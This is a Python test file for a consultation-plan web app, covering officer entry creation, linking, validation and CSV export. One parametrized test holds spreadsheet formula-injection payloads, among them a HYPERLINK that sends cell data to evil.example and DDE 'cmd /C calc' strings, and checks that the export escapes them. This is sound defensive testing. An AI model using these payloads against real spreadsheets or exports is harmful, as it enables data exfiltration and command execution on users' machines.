"""The annual consultation plan: officers write it, the public reads it and downloads CSV,
consultations link to their entry, and one left out of its year's plan is flagged."""

import csv
import io

import pytest
from sqlalchemy import select

from consult.extensions import db
from consult.plan.models import PlanEntry
from tests.conftest import submit


def test_officer_plans_a_consultation_and_links_it(
    app, client, login, make_consultation, make_directorate
):
    directorate = make_directorate()
    consultation_id = make_consultation(planned_year=2026, directorate_id=directorate)
    login("officer")
    url = "/manage/plan/2026"
    data = {
        "kind": "draft_act",
        "directorate_id": str(directorate),
        "quarter": "2",
        "title_sq": "Rregullore për transparencë",
        "title_sr_Latn": "Pravilnik o transparentnosti",
    }
    assert submit(client, url, data, form_url=f"{url}?lang=en").status_code == 302
    submit(client, url, {**data, "title_sq": "Rregullore për parkimin", "title_sr_Latn": ""})
    manage = f"/manage/consultations/{consultation_id}?lang=en"
    assert "MS-PLAN" in client.get(manage).get_data(as_text=True)  # the year has a plan

    with app.app_context():
        entry_id = db.session.scalars(select(PlanEntry.id).order_by(PlanEntry.id)).first()
    submit(
        client,
        f"/manage/plan/entries/{entry_id}/link",
        {"consultation_id": str(consultation_id)},
        form_url=url,
    )
    assert "MS-PLAN" not in client.get(manage).get_data(as_text=True)

    page = client.get("/plan/2026?lang=sr_Latn").get_data(as_text=True)
    assert "Pravilnik o transparentnosti" in page
    assert f"/consultations/{consultation_id}" in page
    csv = client.get("/plan/2026.csv?lang=sq").get_data(as_text=True)
    assert csv.splitlines()[0] == "year,quarter,kind,directorate,title,consultation_id"
    assert f"2026,2,draft_act,EDU,Rregullore për transparencë,{consultation_id}" in csv
    assert "Rregullore për parkimin," in csv


def test_a_plan_entry_needs_a_title(app, client, login):
    login("officer")
    url = "/manage/plan/2026"
    response = submit(client, url, {"kind": "survey", "directorate_id": "0", "quarter": "1"})
    assert response.status_code == 400
    with app.app_context():
        assert db.session.scalars(select(PlanEntry)).all() == []


def test_plan_pages_refuse_impossible_years(client):
    assert client.get("/plan/99999").status_code == 404
    assert client.get("/plan/2026").status_code == 200


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Shiko")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage return"],
)
def test_a_plan_title_that_looks_like_a_formula_is_plain_text_in_the_csv(app, client, title):
    """A spreadsheet opening the CSV runs a cell that starts with = + - @ tab or CR as a
    formula: such a title gets a leading apostrophe, as every other export does."""
    with app.app_context():
        db.session.add(PlanEntry(year=2026, title={"sq": title}, quarter=1, kind="survey"))
        db.session.commit()
    response = client.get("/plan/2026.csv?lang=sq")
    (row,) = list(csv.reader(io.StringIO(response.get_data(as_text=True))))[1:]
    assert row[4] == "'" + title
